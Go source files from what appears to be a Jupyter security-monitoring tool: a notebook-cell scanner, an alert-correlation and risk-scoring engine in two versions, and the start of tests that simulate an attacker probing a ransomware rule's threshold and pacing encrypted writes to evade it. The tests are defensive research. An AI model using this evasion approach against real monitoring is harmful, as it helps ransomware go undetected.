		// at low severity rather than passing them silently.
		out = append(out, Finding{
			Suite: SuiteName, CheckID: "NB-unscannable", Title: "Cell cannot be vetted",
			Severity: rules.SevInfo, Class: rules.ClassZeroDay, Target: cellID,
			Evidence: fmt.Sprintf("cell does not parse (%v): unscannable", err),
		})
		return out
	}
	called := map[string]bool{}
	var calls []string
	for _, c := range prog.Calls {
		if !called[c] {
			called[c] = true
			calls = append(calls, c)
		}
	}
	sort.Strings(calls)
	for _, p := range patterns {
		match := true
		for _, req := range p.requires {
			if !called[req] {
				match = false
				break
			}
		}
		if match {
			out = append(out, Finding{
				Suite: SuiteName, CheckID: "NB-" + p.name, Title: "Attack-shaped cell: " + p.name,
				Severity: p.severity, Class: p.class, Target: cellID,
				Evidence:    p.reason + " (calls: " + strings.Join(calls, ", ") + ")",
				Remediation: "Review the cell before execution; do not trust notebooks from unverified sources.",
			})
		}
	}
	return out
}

// ScanNotebook scans every code cell.
func ScanNotebook(nb *nbformat.Notebook) []Finding {
	var out []Finding
	for i := range nb.Cells {
		c := &nb.Cells[i]
		if c.CellType != nbformat.CellCode {
			continue
		}
		out = append(out, ScanSource(c.ID, string(c.Source))...)
	}
	scan.Sort(out)
	return out
}

// TopSeverity returns the worst severity among findings ("" if none).
func TopSeverity(findings []Finding) rules.Severity {
	var top rules.Severity
	for _, f := range findings {
		if f.Severity.Rank() > top.Rank() {
			top = f.Severity
		}
	}
	return top
}

// Render prints findings for CLI use.
func Render(findings []Finding) string {
	if len(findings) == 0 {
		return "notebook scan: clean\n"
	}
	var b strings.Builder
	fmt.Fprintf(&b, "notebook scan: %d findings (top severity %s)\n",
		len(findings), TopSeverity(findings))
	for _, f := range findings {
		fmt.Fprintf(&b, "  [%-8s] cell %-12s %-26s %s\n", f.Severity, f.Target, f.Class, f.Evidence)
	}
	return b.String()
}
