// Package core is the detection framework — the paper's proposed
// "Jupyter network monitoring tool" brain. It consumes the unified
// trace event stream, evaluates the signature engine and the anomaly
// detectors, correlates alerts into incidents per actor, and scores
// incidents against the OSCRP risk profile.
//
// The engine follows the pipeline-v2 sharding contract (DESIGN.md):
// the signature path rides the lock-free rules.Engine, anomaly
// detectors and incident-correlation state live in actor-keyed shards
// with per-shard locks, and counters are atomic — so N replay or
// ingest workers scale with cores instead of convoying on one engine
// mutex, while per-actor serial equivalence keeps the alert and
// incident sets identical to a serial run.
//
// A deployment embeds an Engine by subscribing it to the server's (or
// the network monitor's) trace bus:
//
//	eng := core.NewEngine(core.DefaultOptions())
//	srv.Bus().Subscribe(eng)
//	... run ...
//	report := eng.Report()
package core

import (
	"fmt"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/anomaly"
	"repro/internal/oscrp"
	"repro/internal/rules"
	"repro/internal/trace"
)

// Options configures an Engine. Options are copied at construction
// and never mutated afterwards, so an Engine is safe for concurrent
// use without option locks; the OnAlert callback can be swapped later
// via Engine.SetOnAlert (copy-on-write).
type Options struct {
	Rules []*rules.Rule
	// Detectors are anomaly-detector factories; the engine
	// instantiates one detector set per actor shard so detector state
	// never crosses a shard lock.
	Detectors []anomaly.Factory
	Profile   *oscrp.Profile
	// IncidentGap closes an incident after this much quiet time from
	// the same actor (default 10 minutes).
	IncidentGap time.Duration
	// Shards is the number of actor shards for detector and
	// correlation state (default 32). Alert and incident sets are
	// independent of the shard count; it only tunes lock granularity.
	Shards int
	// OnAlert, if set, is invoked synchronously per alert, always
	// outside every engine lock: a callback may re-enter the engine
	// (Stats, Incidents, Process) without deadlocking.
	OnAlert func(rules.Alert)
	// OnIncidentUpdate, if set, is invoked synchronously after each
	// alert has been folded into its incident, with the incident's
	// post-fold aggregate state — no alert payloads, so emitting one
	// per alert stays cheap. Like OnAlert it always runs outside
	// every engine lock. The history layer (internal/histstore)
	// records these updates as append-only incident snapshots.
	OnIncidentUpdate func(IncidentUpdate)
}

// DefaultOptions returns the stock ruleset, detector suite, and
// profiles.
func DefaultOptions() Options {
	return Options{
		Rules:       rules.BuiltinRules(),
		Detectors:   anomaly.SuiteFactories(),
		Profile:     oscrp.Default(),
		IncidentGap: 10 * time.Minute,
	}
}

// Incident is a correlated group of alerts attributed to one actor
// (user or source IP) and one taxonomy class.
type Incident struct {
	ID        string         `json:"id"`
	Actor     string         `json:"actor"`
	Class     string         `json:"class"`
	Opened    time.Time      `json:"opened"`
	LastAlert time.Time      `json:"last_alert"`
	Alerts    []rules.Alert  `json:"alerts"`
	Severity  rules.Severity `json:"severity"`
	RiskScore float64        `json:"risk_score"`
	// Count is the alert count at snapshot time. Incidents
	// reconstructed from persisted history (internal/histstore) carry
	// the count without materializing Alerts; renderers read
	// AlertCount so both shapes print identically.
	Count int `json:"count,omitempty"`

	// gen counts how many times the quiet-gap rule has closed and
	// reopened this incident's (actor, class) pair; it distinguishes
	// successive incidents of the same pair in the update stream.
	gen int
}

// AlertCount returns the number of alerts folded into the incident,
// whether the incident carries the alert payloads (engine snapshots)
// or only the persisted count (history reconstructions).
func (inc *Incident) AlertCount() int {
	if inc.Count > 0 {
		return inc.Count
	}
	return len(inc.Alerts)
}

// Summary renders a one-line incident description.
func (inc *Incident) Summary() string {
	return fmt.Sprintf("[%s] %s by %q: %d alerts, severity %s, risk %.0f",
		inc.ID, inc.Class, inc.Actor, inc.AlertCount(), inc.Severity, inc.RiskScore)
}

// snapshot deep-copies the incident so callers never share slices
// with the live correlation state.
func (inc *Incident) snapshot() *Incident {
	out := *inc
	out.Alerts = append([]rules.Alert(nil), inc.Alerts...)
	out.Count = len(inc.Alerts)
	return &out
}

// IncidentUpdate is the compact incident snapshot handed to the
// OnIncidentUpdate hook after an alert is folded in: the incident's
// aggregate state without the alert payloads. (Actor, Class, Gen)
// identifies one incident within an engine run — Gen counts the
// times the quiet-gap rule closed and reopened the same actor|class
// pair, so an update stream reconstructs every distinct incident,
// not just the last one per pair.
//
// Every aggregate field is monotone over an incident's update stream:
// Alerts strictly increases (it is the fold counter), Opened only
// moves earlier, LastAlert only later, and Severity rank and
// RiskScore never decrease (oscrp.RiskScore is monotone in alert
// count and top severity). A consumer that keeps only the
// highest-Alerts update per (Actor, Class, Gen) therefore ends up
// with exactly the engine's final state for that incident — the
// invariant the histstore query layer's dedup and segment pruning
// are built on.
type IncidentUpdate struct {
	Actor     string
	Class     string
	Gen       int
	Opened    time.Time
	LastAlert time.Time
	Alerts    int
	Severity  rules.Severity
	RiskScore float64
}

// defaultShards is the stock actor-shard count: like the rules
// engine's 32 correlation shards, enough that 16 workers rarely
// contend while staying cache-friendly.
const defaultShards = 32

// coreShard owns the detector instances and open/closed incidents for
// the actors hashed to it. Detector state is touched under the shard
// lock of the *event's* actor key; correlation state under the shard
// lock of the *alert's* attributed actor (the two usually coincide
// but are acquired separately, never nested).
type coreShard struct {
	mu   sync.Mutex
	dets []anomaly.Detector
	open map[string]*Incident // actor|class -> open incident
	done []*Incident
}

// Engine is the composed detection pipeline. It implements trace.Sink
// and is safe for concurrent use from many goroutines. Construction
// copies what it needs out of Options; the Options value is not
// retained.
type Engine struct {
	sig        *rules.Engine
	profile    *oscrp.Profile
	gap        time.Duration
	onAlert    atomic.Pointer[func(rules.Alert)]
	onIncident atomic.Pointer[func(IncidentUpdate)]
	shards     []coreShard

	events atomic.Uint64
	alerts atomic.Uint64
	opened atomic.Int64
}

// Stats counts engine activity.
type Stats struct {
	Events    uint64
	Alerts    uint64
	Incidents int
}

// NewEngine builds an Engine; it panics only on invalid built-in rules
// (a programming error), returning errors for caller-supplied rules.
func NewEngine(opts Options) (*Engine, error) {
	if opts.Profile == nil {
		opts.Profile = oscrp.Default()
	}
	if opts.IncidentGap == 0 {
		opts.IncidentGap = 10 * time.Minute
	}
	if opts.Shards <= 0 {
		opts.Shards = defaultShards
	}
	sig, err := rules.NewEngine(opts.Rules)
	if err != nil {
		return nil, err
	}
	e := &Engine{
		sig:     sig,
		profile: opts.Profile,
		gap:     opts.IncidentGap,
		shards:  make([]coreShard, opts.Shards),
	}
	for i := range e.shards {
		e.shards[i].dets = anomaly.Build(opts.Detectors)
		e.shards[i].open = map[string]*Incident{}
	}
	e.SetOnAlert(opts.OnAlert)
	e.SetOnIncidentUpdate(opts.OnIncidentUpdate)
	return e, nil
}

// MustEngine builds an Engine with DefaultOptions, panicking on error
// (the built-in configuration is tested to be valid).
func MustEngine() *Engine {
	e, err := NewEngine(DefaultOptions())
	if err != nil {
		panic("core: default engine: " + err.Error())
	}
	return e
}

// SetOnAlert swaps the per-alert callback (copy-on-write; nil
// disables it). The callback always runs outside every engine lock.
func (e *Engine) SetOnAlert(fn func(rules.Alert)) {
	if fn == nil {
		e.onAlert.Store(nil)
		return
	}
	e.onAlert.Store(&fn)
}

// SetOnIncidentUpdate swaps the per-incident-update callback
// (copy-on-write; nil disables it). Like OnAlert, the callback always
// runs outside every engine lock.
func (e *Engine) SetOnIncidentUpdate(fn func(IncidentUpdate)) {
	if fn == nil {
		e.onIncident.Store(nil)
		return
	}
	e.onIncident.Store(&fn)
}

// Emit implements trace.Sink.
func (e *Engine) Emit(ev trace.Event) {
	e.Process(ev)
}

// ProcessBatch evaluates events in order and returns all alerts
// fired. The replay and high-rate ingest paths use it to amortize
// per-event overhead; it is safe to call concurrently as long as
// events for the same actor stay within one batch stream.
func (e *Engine) ProcessBatch(events []trace.Event) []rules.Alert {
	var fired []rules.Alert
	for i := range events {
		fired = append(fired, e.Process(events[i])...)
	}
	return fired
}

// Process evaluates one event through signatures and detectors and
// returns the alerts fired. Concurrent callers scale: the signature
// path is lock-free, and only the event's actor shard (detectors) and
// each alert's actor shard (correlation) are locked, briefly and
// never nested. OnAlert runs after every lock is released.
func (e *Engine) Process(ev trace.Event) []rules.Alert {
	fired := e.sig.Process(ev)
	sh := &e.shards[trace.ShardIndex(trace.ActorKey(ev), len(e.shards))]
	sh.mu.Lock()
	for _, d := range sh.dets {
		fired = append(fired, d.Process(ev)...)
	}
	sh.mu.Unlock()
	e.events.Add(1)
	if len(fired) > 0 {
		e.alerts.Add(uint64(len(fired)))
		// correlate snapshots the incident's aggregate state under the
		// shard lock; both callbacks then run with every lock released,
		// so either may re-enter the engine.
		icb := e.onIncident.Load()
		var updates []IncidentUpdate
		if icb != nil {
			updates = make([]IncidentUpdate, 0, len(fired))
		}
		for i := range fired {
			u := e.correlate(fired[i])
			if icb != nil {
				updates = append(updates, u)
			}
		}
		if cb := e.onAlert.Load(); cb != nil {
			for _, a := range fired {
				(*cb)(a)
			}
		}
		for i := range updates {
			(*icb)(updates[i])
		}
	}
	return fired
}

// AlertActor exposes the engine's alert-attribution rule — the actor
// an alert's incident is keyed by. The history layer records alerts
// under the same actor so alert and incident queries agree.
func AlertActor(a rules.Alert) string { return actorOf(a) }

// actorOf attributes an alert to a user, else a source IP, else the
// kernel.
func actorOf(a rules.Alert) string {
	k := a.Trigger.Kind
	if (k == trace.KindAuth || k == trace.KindHTTP || k == trace.KindConn) && a.Trigger.SrcIP != "" {
		// Transport- and auth-layer alerts attribute to the source
		// address: the username is the victim, not the actor.
		return a.Trigger.SrcIP
	}
	switch {
	case a.Trigger.User != "" && a.Trigger.User != "anonymous":
		return a.Trigger.User
	case a.Trigger.SrcIP != "":
		return a.Trigger.SrcIP
	case a.Trigger.KernelID != "":
		return a.Trigger.KernelID
	case a.Group != "":
		return a.Group
	default:
		return "unknown"
	}
}

// correlate folds one alert into its actor's incident state, under
// that actor's shard lock only, and returns the incident's post-fold
// aggregate snapshot for the OnIncidentUpdate dispatch.
func (e *Engine) correlate(a rules.Alert) IncidentUpdate {
	actor := actorOf(a)
	sh := &e.shards[trace.ShardIndex(actor, len(e.shards))]
	sh.mu.Lock()
	defer sh.mu.Unlock()
	key := actor + "|" + a.Class
	gen := 0
	inc := sh.open[key]
	if inc != nil && a.Time.Sub(inc.LastAlert) > e.gap {
		// The gap rule only ever closes an incident here, with its
		// successor in hand, so the generation chain per (actor, class)
		// never restarts within one engine run.
		gen = inc.gen + 1
		sh.done = append(sh.done, inc)
		delete(sh.open, key)
		inc = nil
	}
	if inc == nil {
		inc = &Incident{
			Actor:     actor,
			Class:     a.Class,
			Opened:    a.Time,
			LastAlert: a.Time,
			gen:       gen,
		}
		sh.open[key] = inc
		e.opened.Add(1)
	}
	inc.Alerts = append(inc.Alerts, a)
	// Opened/LastAlert track the min/max alert time rather than
	// arrival order, so an actor whose alerts arrive from two event
	// shards still snapshots identically to a serial run.
	if a.Time.Before(inc.Opened) {
		inc.Opened = a.Time
	}
	if a.Time.After(inc.LastAlert) {
		inc.LastAlert = a.Time
	}
	if a.Severity.Rank() > inc.Severity.Rank() {
		inc.Severity = a.Severity
	}
	if av, ok := oscrp.AvenueForClass(a.Class); ok {
		inc.RiskScore = e.profile.RiskScore(av, len(inc.Alerts), inc.Severity.Rank())
	}
	return IncidentUpdate{
		Actor:     inc.Actor,
		Class:     inc.Class,
		Gen:       inc.gen,
		Opened:    inc.Opened,
		LastAlert: inc.LastAlert,
		Alerts:    len(inc.Alerts),
		Severity:  inc.Severity,
		RiskScore: inc.RiskScore,
	}
}

// Alerts returns all alerts fired so far (signature engine first;
// incident records carry anomaly alerts too), sorted for stable
// output.
func (e *Engine) Alerts() []rules.Alert {
	var out []rules.Alert
	for _, inc := range e.Incidents() {
		out = append(out, inc.Alerts...)
	}
	rules.SortAlerts(out)
	return out
}

// Incidents returns a snapshot of all incidents, open and closed, in
// canonical order: first-seen time, then actor, then class. IDs are
// assigned from that order at snapshot time (INC-0001, INC-0002, …),
// so they are deterministic no matter how many workers fed the engine
// or in which order alerts arrived.
func (e *Engine) Incidents() []*Incident {
	var out []*Incident
	for i := range e.shards {
		sh := &e.shards[i]
		sh.mu.Lock()
		for _, inc := range sh.done {
			out = append(out, inc.snapshot())
		}
		for _, inc := range sh.open {
			out = append(out, inc.snapshot())
		}
		sh.mu.Unlock()
	}
	for _, inc := range out {
		rules.SortAlerts(inc.Alerts)
	}
	sort.Slice(out, func(i, j int) bool {
		a, b := out[i], out[j]
		if !a.Opened.Equal(b.Opened) {
			return a.Opened.Before(b.Opened)
		}
		if a.Actor != b.Actor {
			return a.Actor < b.Actor
		}
		return a.Class < b.Class
	})
	for i, inc := range out {
		inc.ID = fmt.Sprintf("INC-%04d", i+1)
	}
	return out
}

// IncidentsByClass groups incidents by taxonomy class.
func (e *Engine) IncidentsByClass() map[string][]*Incident {
	m := map[string][]*Incident{}
	for _, inc := range e.Incidents() {
		m[inc.Class] = append(m[inc.Class], inc)
	}
	return m
}

// TopByRisk returns up to k incidents (none for k <= 0) in a total,
// deterministic order: risk score descending, then actor, then
// first-seen, then class — the order the CLI incident tables render.
func (e *Engine) TopByRisk(k int) []*Incident {
	return TopIncidents(e.Incidents(), k)
}

// TopIncidents sorts an incident snapshot by (risk desc, actor,
// first-seen, class) and truncates it to k entries (none for k <= 0).
// It mutates the given slice's order; callers holding an Incidents()
// snapshot can rank it without taking a second snapshot.
func TopIncidents(incs []*Incident, k int) []*Incident {
	sort.Slice(incs, func(i, j int) bool {
		a, b := incs[i], incs[j]
		if a.RiskScore != b.RiskScore {
			return a.RiskScore > b.RiskScore
		}
		if a.Actor != b.Actor {
			return a.Actor < b.Actor
		}
		if !a.Opened.Equal(b.Opened) {
			return a.Opened.Before(b.Opened)
		}
		return a.Class < b.Class
	})
	if k <= 0 {
		return nil
	}
	if k < len(incs) {
		incs = incs[:k]
	}
	return incs
}

// Stats returns engine counters. It takes no locks (the counters are
// atomic), so it is safe to call from inside an OnAlert callback.
func (e *Engine) Stats() Stats {
	return Stats{
		Events:    e.events.Load(),
		Alerts:    e.alerts.Load(),
		Incidents: int(e.opened.Load()),
	}
}

// AddRule hot-loads a signature (the threat-intel path).
func (e *Engine) AddRule(r *rules.Rule) error {
	return e.sig.AddRule(r)
}

// RuleCount returns the number of loaded signatures.
func (e *Engine) RuleCount() int { return e.sig.RuleCount() }

// Report is a human-readable engine summary: per-class incident and
// alert counts with risk scores — what jsentinel prints.
type Report struct {
	GeneratedAt time.Time
	Stats       Stats
	Classes     []ClassReport
}

// ClassReport summarizes one taxonomy class.
type ClassReport struct {
	Class     string
	Incidents int
	Alerts    int
	TopRisk   float64
	Severity  rules.Severity
}

// Report builds the summary.
func (e *Engine) Report(now time.Time) Report {
	rep := Report{GeneratedAt: now, Stats: e.Stats()}
	byClass := e.IncidentsByClass()
	classes := make([]string, 0, len(byClass))
	for c := range byClass {
		classes = append(classes, c)
	}
	sort.Strings(classes)
	for _, c := range classes {
		cr := ClassReport{Class: c}
		for _, inc := range byClass[c] {
			cr.Incidents++
			cr.Alerts += inc.AlertCount()
			if inc.RiskScore > cr.TopRisk {
				cr.TopRisk = inc.RiskScore
			}
			if inc.Severity.Rank() > cr.Severity.Rank() {
				cr.Severity = inc.Severity
			}
		}
		rep.Classes = append(rep.Classes, cr)
	}
	return rep
}

// Render prints the report as aligned text.
func (r Report) Render() string {
	var b strings.Builder
	fmt.Fprintf(&b, "Detection report @ %s\n", r.GeneratedAt.Format(time.RFC3339))
	fmt.Fprintf(&b, "events=%d alerts=%d incidents=%d\n", r.Stats.Events, r.Stats.Alerts, r.Stats.Incidents)
	fmt.Fprintf(&b, "%-28s %10s %8s %6s %10s\n", "CLASS", "INCIDENTS", "ALERTS", "RISK", "SEVERITY")
	for _, c := range r.Classes {
		fmt.Fprintf(&b, "%-28s %10d %8d %6.0f %10s\n", c.Class, c.Incidents, c.Alerts, c.TopRisk, c.Severity)
	}
	return b.String()
}

// RenderIncidentTable renders incidents as an aligned table of actor,
// class, alert count, severity, and risk — no IDs or timestamps, so
// two runs that fed the same events (under any worker count) print
// byte-identical tables. Pair with TopByRisk for the canonical order.
func RenderIncidentTable(incs []*Incident) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-20s %-28s %7s %10s %6s\n", "ACTOR", "CLASS", "ALERTS", "SEVERITY", "RISK")
	for _, inc := range incs {
		fmt.Fprintf(&b, "%-20s %-28s %7d %10s %6.0f\n",
			inc.Actor, inc.Class, inc.AlertCount(), inc.Severity, inc.RiskScore)
	}
	return b.String()
}

// RenderTopIncidents is the one "top N incidents by risk" rendering
// both CLIs share: it ranks a copy of the snapshot (the caller's
// order — e.g. canonical ID order — survives) and renders the header
// plus table, or nothing when no incident makes the cut.
func RenderTopIncidents(incs []*Incident, k int) string {
	top := TopIncidents(append([]*Incident(nil), incs...), k)
	if len(top) == 0 {
		return ""
	}
	var b strings.Builder
	fmt.Fprintf(&b, "top %d incidents by risk:\n", len(top))
	b.WriteString(RenderIncidentTable(top))
	return b.String()
}
