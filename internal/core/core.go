// Package core is the detection framework — the paper's proposed
// "Jupyter network monitoring tool" brain. It consumes the unified
// trace event stream, evaluates the signature engine and the anomaly
// detectors, correlates alerts into incidents per actor, and scores
// incidents against the OSCRP risk profile.
//
// A deployment embeds an Engine by subscribing it to the server's (or
// the network monitor's) trace bus:
//
//	eng := core.NewEngine(core.DefaultOptions())
//	srv.Bus().Subscribe(eng)
//	... run ...
//	report := eng.Report()
package core

import (
	"fmt"
	"sort"
	"strings"
	"sync"
	"time"

	"repro/internal/anomaly"
	"repro/internal/oscrp"
	"repro/internal/rules"
	"repro/internal/taxonomy"
	"repro/internal/trace"
)

// Options configures an Engine.
type Options struct {
	Rules     []*rules.Rule
	Detectors []anomaly.Detector
	Profile   *oscrp.Profile
	Taxonomy  *taxonomy.Registry
	// IncidentGap closes an incident after this much quiet time from
	// the same actor (default 10 minutes).
	IncidentGap time.Duration
	// OnAlert, if set, is invoked synchronously per alert.
	OnAlert func(rules.Alert)
}

// DefaultOptions returns the stock ruleset, detector suite, and
// profiles.
func DefaultOptions() Options {
	return Options{
		Rules:       rules.BuiltinRules(),
		Detectors:   anomaly.Suite(),
		Profile:     oscrp.Default(),
		Taxonomy:    taxonomy.Default(),
		IncidentGap: 10 * time.Minute,
	}
}

// Incident is a correlated group of alerts attributed to one actor
// (user or source IP) and one taxonomy class.
type Incident struct {
	ID        string         `json:"id"`
	Actor     string         `json:"actor"`
	Class     string         `json:"class"`
	Opened    time.Time      `json:"opened"`
	LastAlert time.Time      `json:"last_alert"`
	Alerts    []rules.Alert  `json:"alerts"`
	Severity  rules.Severity `json:"severity"`
	RiskScore float64        `json:"risk_score"`
}

// Summary renders a one-line incident description.
func (inc *Incident) Summary() string {
	return fmt.Sprintf("[%s] %s by %q: %d alerts, severity %s, risk %.0f",
		inc.ID, inc.Class, inc.Actor, len(inc.Alerts), inc.Severity, inc.RiskScore)
}

// Engine is the composed detection pipeline. It implements trace.Sink.
type Engine struct {
	opts  Options
	sig   *rules.Engine
	mu    sync.Mutex
	open  map[string]*Incident // actor|class -> open incident
	done  []*Incident
	seq   int
	stats Stats
}

// Stats counts engine activity.
type Stats struct {
	Events    uint64
	Alerts    uint64
	Incidents int
}

// NewEngine builds an Engine; it panics only on invalid built-in rules
// (a programming error), returning errors for caller-supplied rules.
func NewEngine(opts Options) (*Engine, error) {
	if opts.Profile == nil {
		opts.Profile = oscrp.Default()
	}
	if opts.Taxonomy == nil {
		opts.Taxonomy = taxonomy.Default()
	}
	if opts.IncidentGap == 0 {
		opts.IncidentGap = 10 * time.Minute
	}
	sig, err := rules.NewEngine(opts.Rules)
	if err != nil {
		return nil, err
	}
	return &Engine{opts: opts, sig: sig, open: map[string]*Incident{}}, nil
}

// MustEngine builds an Engine with DefaultOptions, panicking on error
// (the built-in configuration is tested to be valid).
func MustEngine() *Engine {
	e, err := NewEngine(DefaultOptions())
	if err != nil {
		panic("core: default engine: " + err.Error())
	}
	return e
}

// Emit implements trace.Sink.
func (e *Engine) Emit(ev trace.Event) {
	e.Process(ev)
}

// ProcessBatch evaluates events in order and returns all alerts
// fired. The replay and high-rate ingest paths use it to amortize
// per-event overhead; it is safe to call concurrently as long as
// events for the same actor stay within one batch stream.
func (e *Engine) ProcessBatch(events []trace.Event) []rules.Alert {
	var fired []rules.Alert
	for i := range events {
		fired = append(fired, e.Process(events[i])...)
	}
	return fired
}

// Process evaluates one event through signatures and detectors and
// returns the alerts fired.
func (e *Engine) Process(ev trace.Event) []rules.Alert {
	fired := e.sig.Process(ev)
	for _, d := range e.opts.Detectors {
		fired = append(fired, d.Process(ev)...)
	}
	e.mu.Lock()
	e.stats.Events++
	e.stats.Alerts += uint64(len(fired))
	for _, a := range fired {
		e.correlateLocked(a)
	}
	e.mu.Unlock()
	if e.opts.OnAlert != nil {
		for _, a := range fired {
			e.opts.OnAlert(a)
		}
	}
	return fired
}

// actorOf attributes an alert to a user, else a source IP, else the
// kernel.
func actorOf(a rules.Alert) string {
	k := a.Trigger.Kind
	if (k == trace.KindAuth || k == trace.KindHTTP || k == trace.KindConn) && a.Trigger.SrcIP != "" {
		// Transport- and auth-layer alerts attribute to the source
		// address: the username is the victim, not the actor.
		return a.Trigger.SrcIP
	}
	switch {
	case a.Trigger.User != "" && a.Trigger.User != "anonymous":
		return a.Trigger.User
	case a.Trigger.SrcIP != "":
		return a.Trigger.SrcIP
	case a.Trigger.KernelID != "":
		return a.Trigger.KernelID
	case a.Group != "":
		return a.Group
	default:
		return "unknown"
	}
}

func (e *Engine) correlateLocked(a rules.Alert) {
	actor := actorOf(a)
	key := actor + "|" + a.Class
	inc := e.open[key]
	if inc != nil && a.Time.Sub(inc.LastAlert) > e.opts.IncidentGap {
		e.done = append(e.done, inc)
		delete(e.open, key)
		inc = nil
	}
	if inc == nil {
		e.seq++
		inc = &Incident{
			ID:     fmt.Sprintf("INC-%04d", e.seq),
			Actor:  actor,
			Class:  a.Class,
			Opened: a.Time,
		}
		e.open[key] = inc
		e.stats.Incidents++
	}
	inc.Alerts = append(inc.Alerts, a)
	inc.LastAlert = a.Time
	if a.Severity.Rank() > inc.Severity.Rank() {
		inc.Severity = a.Severity
	}
	if av, ok := oscrp.AvenueForClass(a.Class); ok {
		inc.RiskScore = e.opts.Profile.RiskScore(av, len(inc.Alerts), inc.Severity.Rank())
	}
}

// Alerts returns all alerts fired so far (signature engine first;
// incident records carry anomaly alerts too).
func (e *Engine) Alerts() []rules.Alert {
	e.mu.Lock()
	defer e.mu.Unlock()
	var out []rules.Alert
	for _, inc := range e.allIncidentsLocked() {
		out = append(out, inc.Alerts...)
	}
	rules.SortAlerts(out)
	return out
}

// Incidents returns all incidents, open and closed, ordered by id.
func (e *Engine) Incidents() []*Incident {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := e.allIncidentsLocked()
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	return out
}

func (e *Engine) allIncidentsLocked() []*Incident {
	out := make([]*Incident, 0, len(e.done)+len(e.open))
	out = append(out, e.done...)
	for _, inc := range e.open {
		out = append(out, inc)
	}
	return out
}

// IncidentsByClass groups incidents by taxonomy class.
func (e *Engine) IncidentsByClass() map[string][]*Incident {
	m := map[string][]*Incident{}
	for _, inc := range e.Incidents() {
		m[inc.Class] = append(m[inc.Class], inc)
	}
	return m
}

// Stats returns engine counters.
func (e *Engine) Stats() Stats {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.stats
}

// AddRule hot-loads a signature (the threat-intel path).
func (e *Engine) AddRule(r *rules.Rule) error {
	return e.sig.AddRule(r)
}

// RuleCount returns the number of loaded signatures.
func (e *Engine) RuleCount() int { return e.sig.RuleCount() }

// Report is a human-readable engine summary: per-class incident and
// alert counts with risk scores — what jsentinel prints.
type Report struct {
	GeneratedAt time.Time
	Stats       Stats
	Classes     []ClassReport
}

// ClassReport summarizes one taxonomy class.
type ClassReport struct {
	Class     string
	Incidents int
	Alerts    int
	TopRisk   float64
	Severity  rules.Severity
}

// Report builds the summary.
func (e *Engine) Report(now time.Time) Report {
	rep := Report{GeneratedAt: now, Stats: e.Stats()}
	byClass := e.IncidentsByClass()
	classes := make([]string, 0, len(byClass))
	for c := range byClass {
		classes = append(classes, c)
	}
	sort.Strings(classes)
	for _, c := range classes {
		cr := ClassReport{Class: c}
		for _, inc := range byClass[c] {
			cr.Incidents++
			cr.Alerts += len(inc.Alerts)
			if inc.RiskScore > cr.TopRisk {
				cr.TopRisk = inc.RiskScore
			}
			if inc.Severity.Rank() > cr.Severity.Rank() {
				cr.Severity = inc.Severity
			}
		}
		rep.Classes = append(rep.Classes, cr)
	}
	return rep
}

// Render prints the report as aligned text.
func (r Report) Render() string {
	var b strings.Builder
	fmt.Fprintf(&b, "Detection report @ %s\n", r.GeneratedAt.Format(time.RFC3339))
	fmt.Fprintf(&b, "events=%d alerts=%d incidents=%d\n", r.Stats.Events, r.Stats.Alerts, r.Stats.Incidents)
	fmt.Fprintf(&b, "%-28s %10s %8s %6s %10s\n", "CLASS", "INCIDENTS", "ALERTS", "RISK", "SEVERITY")
	for _, c := range r.Classes {
		fmt.Fprintf(&b, "%-28s %10d %8d %6.0f %10s\n", c.Class, c.Incidents, c.Alerts, c.TopRisk, c.Severity)
	}
	return b.String()
}
