package core

import (
	"testing"
	"time"

	"repro/internal/rules"
	"repro/internal/trace"
)

// These tests reproduce the paper's §IV.A evasion scenario: "attackers
// may employ techniques such as low and slow DoS and inferring
// detection rules using adversarial machine learning." The adversary
// here has oracle access to a replica of the detection engine (the
// realistic assumption: the ruleset ships in an open-source monitor),
// infers the burst-rule threshold by probing, and paces an encryption
// sweep beneath it. Defense-in-depth is then measured: signature-only
// engines are fully evaded; the anomaly layer still catches the sweep.

// burstOracle reports whether a train of n high-entropy writes spaced
// by gap triggers any ransomware alert on a fresh engine replica.
func burstOracle(t *testing.T, opts Options, n int, gap time.Duration) bool {
	t.Helper()
	eng, err := NewEngine(opts)
	if err != nil {
		t.Fatal(err)
	}
	base := time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)
	for i := 0; i < n; i++ {
		alerts := eng.Process(trace.Event{
			Time: base.Add(time.Duration(i) * gap),
			Kind: trace.KindFileOp, Op: "write", User: "probe",
			Target:  "probe-" + string(rune('a'+i%26)),
			Entropy: 7.9, Bytes: 10000, Success: true,
		})
		for _, a := range alerts {
			if a.Class == rules.ClassRansomware {
				return true
			}
		}
	}
	return false
}

// signatureOnly returns options with anomaly detectors removed but
// including only the burst-threshold signature (the attacker's model
// of a naive deployment).
func signatureOnly() Options {
	opts := DefaultOptions()
	opts.Detectors = nil
	return opts
}

func TestAdversaryInfersBurstThreshold(t *testing.T) {
	// Binary search over burst size at 1-second pacing against the
	// signature-only replica: the attacker learns the exact count that
	// trips RW-003 (threshold 5 within 2 minutes).
	lo, hi := 1, 32
	for lo < hi {
		mid := (lo + hi) / 2
		if burstOracle(t, signatureOnly(), mid, time.Second) {
			hi = mid
		} else {
			lo = mid + 1
		}
	}
	if lo != 5 {
		t.Fatalf("inferred threshold = %d, want 5 (rule RW-003)", lo)
	}
}

func TestPacedSweepEvadesSignaturesOnly(t *testing.T) {
	// Knowing threshold=5/2min, the adversary paces writes at 35 s:
	// at most 4 land in any 2-minute window.
	if burstOracle(t, signatureOnly(), 40, 35*time.Second) {
		t.Fatal("paced sweep tripped the signature engine (pacing math wrong?)")
	}
}

func TestPacedSweepCaughtByDefenseInDepth(t *testing.T) {
	// The same paced sweep against the full engine: the per-file
	// entropy-jump detector (which has no rate component) fires when a
	// previously low-entropy file is overwritten with ciphertext.
	eng := MustEngine()
	base := time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)
	// Benign history: the victim files exist with text entropy.
	for i := 0; i < 8; i++ {
		eng.Process(trace.Event{
			Time: base.Add(time.Duration(i) * time.Second),
			Kind: trace.KindFileOp, Op: "write", User: "mallory",
			Target:  "notebooks/nb" + string(rune('a'+i)) + ".ipynb",
			Entropy: 4.1, Bytes: 20000, Success: true,
		})
	}
	// Paced encryption sweep, 35 s apart (evades RW-003).
	caught := false
	var filesBefore int
